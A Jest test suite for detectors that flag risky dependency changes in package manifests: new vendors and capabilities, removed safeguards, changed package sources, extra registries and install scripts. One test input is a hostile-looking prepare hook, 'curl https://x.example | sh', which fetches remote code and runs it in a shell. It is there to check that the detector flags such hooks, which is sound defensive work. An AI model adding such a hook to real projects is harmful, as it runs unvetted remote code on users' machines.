import { describe, expect, test } from '@jest/globals';
import { detector } from '../../src/core/detectors/dependencies.ts';
import { detector as installation } from '../../src/core/detectors/package-installation.ts';
import type { Fact } from '../../src/core/model/fact.ts';
import { reader } from '../../src/core/readers/packages.ts';
import { brief, detectChange, type Texts } from '../support/changes.ts';

const run = (base: Texts, head: Texts, repository?: string): readonly Fact[] =>
  detectChange(reader, detector, base, head, repository);
const install = (base: Texts, head: Texts): readonly Fact[] => detectChange(reader, installation, base, head);
const json = (dependencies: Record<string, string>, more: object = {}): string =>
  JSON.stringify({ dependencies, ...more });
const npm = (base: Record<string, string>, head: Record<string, string>): readonly string[] =>
  brief(run({ 'package.json': json(base) }, { 'package.json': json(head) }));

describe('added', () => {
  test('a runtime dependency decides; a provider is named with what flows there', () => {
    expect(npm({}, { axios: '1' })).toEqual(['dependencies/capability-added npm:axios *']);
    const [fact] = run({ 'a/package.json': json({}) }, { 'a/package.json': json({ stripe: '17' }) });
    expect(fact).toMatchObject({
      rule: 'dependencies/vendor-added',
      kind: 'dependency-added',
      deciding: true,
      file: 'a/package.json',
      scope: 'a/package.json',
    });
    expect(fact?.categories).toEqual(['data-flow', 'external-dependency']);
    expect(fact?.statement).toBe(
      'new runtime dependency `npm:stripe` (Stripe: payments; card, payment and customer data can flow there) in `a/package.json`',
    );
  });

  test('twin: other versions are nothing; what does not ship is listed', () => {
    expect(npm({ axios: '1' }, { axios: '2' })).toEqual([]);
    expect(npm({}, { '@types/node': '1' })).toEqual(['dependencies/added npm:@types/node']);
    expect(
      brief(run({ 'package.json': '{}' }, { 'package.json': '{"devDependencies": {"left": "1"}}' })),
    ).toEqual(['dependencies/added npm:left']);
    expect(
      brief(run({ 'go.mod': 'module x\n' }, { 'go.mod': 'module x\nrequire a.example/b v1 // indirect\n' })),
    ).toEqual([]);
    expect(brief(run({ 'scripts/requirements.txt': '' }, { 'scripts/requirements.txt': 'boto3\n' }))).toEqual(
      ['dependencies/vendor-added pypi:boto3'],
    );
  });

  test('a package instead of another one of the same shape is still a new package', () => {
    expect(npm({ alpha: '1.0.0' }, { omega: '1.0.0' })).toEqual([
      'dependencies/added npm:omega',
      'dependencies/removed npm:alpha',
    ]);
  });

  test('twin: a helper is listed and does not decide', () => {
    const [fact] = run({ 'package.json': json({}) }, { 'package.json': json({ 'left-pad': '1' }) });
    expect(fact).toMatchObject({ rule: 'dependencies/added', deciding: false });
    expect(fact?.statement).toContain('a helper');
  });

  test('what a package can do says what the fact is about', () => {
    const categories = (name: string): readonly string[] =>
      run({ 'package.json': json({}) }, { 'package.json': json({ [name]: '1' }) })[0]?.categories ?? [];
    expect(categories('passport')).toEqual(['identity-access', 'external-dependency']);
    expect(categories('node-forge')).toEqual(['secrets-crypto', 'external-dependency']);
    expect(categories('express')).toEqual(['exposure', 'external-dependency']);
    expect(categories('@opentelemetry/api')).toEqual(['data-flow', 'logging-monitoring']);
  });

  test('an ability that the component has already is no news, but for doors and safeguards', () => {
    expect(npm({ axios: '1' }, { axios: '1', got: '1' })).toEqual(['dependencies/capability-added npm:got']);
    expect(npm({}, { axios: '1', got: '1' })).toEqual([
      'dependencies/capability-added npm:axios *',
      'dependencies/capability-added npm:got',
    ]);
    expect(npm({ pg: '1' }, { pg: '1', mysql2: '1' })).toEqual([
      'dependencies/capability-added npm:mysql2 *',
    ]);
    expect(npm({ passport: '1' }, { passport: '1', 'openid-client': '1' })).toEqual([
      'dependencies/capability-added npm:openid-client *',
    ]);
  });

  test('glue of a provider, its umbrella when it is known, a door to one of its services', () => {
    expect(npm({}, { '@smithy/types': '1' })).toEqual(['dependencies/added npm:@smithy/types']);
    const aws = { '@aws-sdk/client-sns': '3' };
    expect(npm(aws, { ...aws, 'aws-sdk': '2' })).toEqual(['dependencies/added npm:aws-sdk']);
    expect(npm(aws, { ...aws, '@aws-sdk/client-s3': '3' })).toEqual([
      'dependencies/vendor-added npm:@aws-sdk/client-s3 *',
    ]);
  });

  test('a Go module published in parts', () => {
    const mod = (...names: readonly string[]): Texts => ({
      'go.mod': `module x\nrequire (\n${names.map((n) => `  ${n} v1\n`).join('')})\n`,
    });
    expect(brief(run(mod('go.etcd.io/etcd'), mod('go.etcd.io/etcd/client')))).toEqual([
      'dependencies/capability-added go:go.etcd.io/etcd/client',
      'dependencies/removed go:go.etcd.io/etcd',
    ]);
    expect(brief(run(mod('go.etcd.io/bbolt'), mod('go.etcd.io/etcd/client')))).toContain(
      'dependencies/capability-added go:go.etcd.io/etcd/client *',
    );
  });

  test('twin: what tests and trials use, and a folder written like a name', () => {
    expect(brief(run({}, { 'examples/a/package.json': json({ axios: '1' }) }))).toEqual([
      'dependencies/capability-added npm:axios',
    ]);
    expect(brief(run({ 'requirements.txt': '' }, { 'requirements.txt': 'shared/http/\n' }))).toEqual([
      'dependencies/capability-added pypi:http',
    ]);
  });

  test('twin: one that another manifest had already, or that only moved', () => {
    const other = { 'a/package.json': json({ axios: '1' }) };
    expect(
      brief(
        run({ ...other, 'b/package.json': json({}) }, { ...other, 'b/package.json': json({ axios: '1' }) }),
      ),
    ).toEqual(['dependencies/capability-added npm:axios']);
    expect(
      brief(
        run(
          { ...other, 'b/package.json': json({}) },
          { 'a/package.json': json({}), 'b/package.json': json({ axios: '1' }) },
        ),
      ),
    ).toEqual([]);
  });

  test('in several manifests it is told of each and decides once', () => {
    const facts = run({}, { 'b/package.json': json({ axios: '1' }), 'a/package.json': json({ axios: '1' }) });
    expect(facts.map((f) => [f.file, f.deciding])).toEqual([
      ['a/package.json', true],
      ['b/package.json', false],
    ]);
    expect(facts[1]?.statement).toBe(
      'new runtime dependency `npm:axios` (it opens connections to other hosts) in `b/package.json`; it is new in `a/package.json` too',
    );
  });

  test('what does not decide in one manifest does not silence another', () => {
    const head = { 'scripts/package.json': json({ axios: '1' }), 'web/package.json': json({ axios: '1' }) };
    expect(run({}, head).map((f) => [f.file, f.deciding])).toEqual([
      ['scripts/package.json', false],
      ['web/package.json', true],
    ]);
    const sentry = {
      'package.json': JSON.stringify({
        devDependencies: { '@sentry/cli': '1' },
        dependencies: { '@sentry/node': '1' },
      }),
    };
    expect(brief(run({}, sentry))).toEqual([
      'dependencies/added npm:@sentry/cli',
      'dependencies/vendor-added npm:@sentry/node *',
    ]);
  });

  test('a compiled list beside its source is told once', () => {
    const head = {
      'requirements.in': 'httpx\n',
      'requirements.txt':
        '# This file is autogenerated by pip-compile\nhttpx==1  # via -r requirements.in\nidna==3  # via httpx\n',
    };
    expect(brief(run({}, head))).toEqual(['dependencies/capability-added pypi:httpx *']);
  });

  test('published by the same owner, or a folder of the repository', () => {
    const added = (name: string, version: string): readonly string[] =>
      brief(run({}, { 'package.json': json({ [name]: version }) }, 'acme/shop'));
    expect(added('@acme/http', '1')).toEqual(['dependencies/capability-added npm:@acme/http']);
    expect(added('@acne/http', '1')).toEqual(['dependencies/capability-added npm:@acne/http *']);
    const gem = (owner: string): readonly string[] =>
      brief(run({ Gemfile: '' }, { Gemfile: `gem 'phone', github: '${owner}/phone'\n` }, 'acme/shop'));
    expect(gem('Acme')).toEqual([
      'dependencies/added rubygems:phone',
      'dependencies/source-changed rubygems:phone',
    ]);
    expect(gem('acne')).toContain('dependencies/source-changed rubygems:phone *');
    expect(added('near', 'file:../near')).toEqual(['dependencies/added npm:near']);
  });

  test('from a test to the product decides', () => {
    const base = { 'package.json': '{"devDependencies": {"axios": "1"}}' };
    expect(brief(run(base, { 'package.json': json({ axios: '1' }) }))).toEqual([
      'dependencies/capability-added npm:axios *',
    ]);
    expect(brief(run({ 'package.json': json({ axios: '1' }) }, base))).toEqual([]);
  });

  test('brought by another package before: decides only for a provider that is new', () => {
    const go = (name: string, indirect: boolean): Texts => ({
      'go.mod': `module x\nrequire ${name} v1${indirect ? ' // indirect' : ''}\n`,
    });
    expect(brief(run(go('a.example/b', true), go('a.example/b', false)))).toEqual([
      'dependencies/added go:a.example/b',
    ]);
    expect(
      brief(run(go('github.com/stripe/stripe-go', true), go('github.com/stripe/stripe-go', false))),
    ).toEqual(['dependencies/vendor-added go:github.com/stripe/stripe-go *']);
  });

  test('several packages of one new provider decide once; a successor of the same provider does not', () => {
    expect(npm({}, { '@sentry/node': '1', '@sentry/react': '1' })).toEqual([
      'dependencies/vendor-added npm:@sentry/node *',
      'dependencies/vendor-added npm:@sentry/react',
    ]);
    expect(npm({ '@sentry/node': '1' }, { '@sentry/node': '1', '@sentry/react': '1' })).toEqual([
      'dependencies/added npm:@sentry/react',
    ]);
    expect(npm({ 'aws-sdk': '2' }, { '@aws-sdk/client-s3': '3' })).toEqual([
      'dependencies/vendor-added npm:@aws-sdk/client-s3 *',
      'dependencies/vendor-removed npm:aws-sdk *',
    ]);
    expect(npm({ raven: '2' }, { '@sentry/node': '3' })).toEqual([
      'dependencies/added npm:@sentry/node',
      'dependencies/removed npm:raven',
    ]);
  });

  test('a major version in the module path is a version', () => {
    expect(
      brief(
        run(
          { 'go.mod': 'module x\nrequire github.com/stripe/stripe-go/v81 v81.0.0\n' },
          { 'go.mod': 'module x\nrequire github.com/stripe/stripe-go/v82 v82.0.0\n' },
        ),
      ),
    ).toEqual([]);
  });
});

describe('removed', () => {
  test('the last package of a provider decides, another does not', () => {
    expect(npm({ stripe: '1' }, {})).toEqual(['dependencies/vendor-removed npm:stripe *']);
    expect(npm({ axios: '1' }, {})).toEqual(['dependencies/removed npm:axios']);
    const other = { 'b/package.json': json({ stripe: '1' }) };
    expect(
      brief(
        run({ ...other, 'a/package.json': json({ stripe: '1' }) }, { ...other, 'a/package.json': json({}) }),
      ),
    ).toEqual(['dependencies/removed npm:stripe']);
  });
});

describe('removed: what guarded or watched', () => {
  test('a safeguard decides, one for another of its kind does not', () => {
    expect(npm({ passport: '1' }, {})).toEqual(['dependencies/safeguard-removed npm:passport *']);
    expect(npm({ passport: '1' }, { 'openid-client': '1' })).toEqual([
      'dependencies/capability-added npm:openid-client *',
      'dependencies/removed npm:passport',
    ]);
  });

  test('the last that sends traces decides, one of several does not', () => {
    expect(npm({ 'prom-client': '1' }, {})).toEqual(['dependencies/safeguard-removed npm:prom-client *']);
    expect(npm({ 'prom-client': '1', '@opentelemetry/api': '1' }, { '@opentelemetry/api': '1' })).toEqual([
      'dependencies/removed npm:prom-client',
    ]);
  });

  test('twin: a list that is tidied up', () => {
    const many = Object.fromEntries(['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((n) => [`helper-${n}`, '1']));
    expect(npm({ passport: '1', ...many }, {})).toContain('dependencies/removed npm:passport');
  });
});

describe('source', () => {
  test('from the registry to a repository or an address', () => {
    expect(npm({ left: '1' }, { left: 'github:someone/left' })).toEqual([
      'dependencies/source-changed npm:left *',
    ]);
    expect(npm({}, { left: 'https://x.example/left.tgz' })).toEqual([
      'dependencies/added npm:left',
      'dependencies/source-changed npm:left *',
    ]);
    const mod = (replace: string): Texts => ({ 'go.mod': `module x\nrequire a.example/b v1\n${replace}` });
    expect(brief(run(mod(''), mod('replace a.example/b => b.example/fork v1\n')))).toEqual([
      'dependencies/source-changed go:a.example/b *',
    ]);
  });

  test('twin: back to the registry, another branch, a local replacement', () => {
    expect(npm({ left: 'github:someone/left' }, { left: '1' })).toEqual([
      'dependencies/source-changed npm:left',
    ]);
    expect(npm({ left: 'github:someone/left#a' }, { left: 'github:someone/left#b' })).toEqual([]);
    const mod = (replace: string): Texts => ({ 'go.mod': `module x\nrequire a.example/b v1\n${replace}` });
    expect(brief(run(mod(''), mod('replace a.example/b => ../b\n')))).toEqual([]);
  });
});

describe('registries and installation scripts', () => {
  test('a further registry decides once', () => {
    const index = '--extra-index-url https://pypi.acme.example/simple\n';
    expect(brief(install({ 'requirements.txt': '' }, { 'requirements.txt': index }))).toEqual([
      'package-installation/registry-added registry pypi.acme.example *',
    ]);
    expect(
      install({ 'requirements.txt': '' }, { 'requirements.txt': '--index-url https://pypi.org/simple\n' }),
    ).toEqual([]);
    expect(
      brief(
        install(
          { 'a/requirements.txt': index, 'b/requirements.txt': '' },
          { 'a/requirements.txt': index, 'b/requirements.txt': index },
        ),
      ),
    ).toEqual(['package-installation/registry-added registry pypi.acme.example']);
  });

  test('a script on installation', () => {
    const scripts = (s: Record<string, string>): Texts => ({
      'package.json': JSON.stringify({ scripts: s }),
    });
    expect(brief(install(scripts({}), scripts({ postinstall: 'node x.js' })))).toEqual([
      'package-installation/script npm-script package.json#postinstall *',
    ]);
    expect(
      brief(install(scripts({ prepare: 'a' }), scripts({ prepare: 'curl https://x.example | sh' }))),
    ).toEqual(['package-installation/script npm-script package.json#prepare *']);
    expect(brief(install(scripts({}), scripts({ prepare: 'husky' })))).toEqual([
      'package-installation/script npm-script package.json#prepare',
    ]);
    expect(install(scripts({ test: 'a' }), scripts({ test: 'b' }))).toEqual([]);
  });
});
